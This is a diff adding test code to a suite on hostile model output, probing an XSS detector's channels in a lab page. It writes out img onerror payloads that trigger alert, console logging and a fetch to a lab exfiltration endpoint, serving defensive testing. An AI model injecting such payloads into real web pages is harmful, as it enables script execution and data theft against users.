@@ -427,6 +427,26 @@ describe('hostile model output (reliability section 7)', () => {
         lost++;
       }
     }
+    // Each channel of the detector, proven by a probe of its own in a fresh document: which
+    // sampled payloads use which channel, and whether a neighbour wiped their document before
+    // they ran, varies, so the payloads alone cannot show that every channel is wired.
+    await lab.goto(labExfil.labUrl);
+    await installDetector(lab, '[data-unsafe]', MARKER_PATTERN.source);
+    const probes = [
+      `__pwn(0)`,
+      `alert('probe 0')`,
+      `console.log('PWN-probe')`,
+      `fetch('${labExfil.origin}/probe/0')`,
+    ].map((action) => ({ id: 0, html: `<img src="x" onerror="${action}">` }));
+    await renderUnsafely(lab, '#lab', probes);
+    await expect
+      .poll(() => ({
+        canary: canary.includes(0),
+        dialog: labWatch.dialogs.includes('probe 0'),
+        console: labWatch.payloadConsole.includes('PWN-probe'),
+        exfil: labExfil.requests.slice(logStart).some((r) => r.path === '/probe/0'),
+      }))
+      .toEqual({ canary: true, dialog: true, console: true, exfil: true });
     labWatch.stop();
     await context.close();
     const labScan = { findings: labFindings };
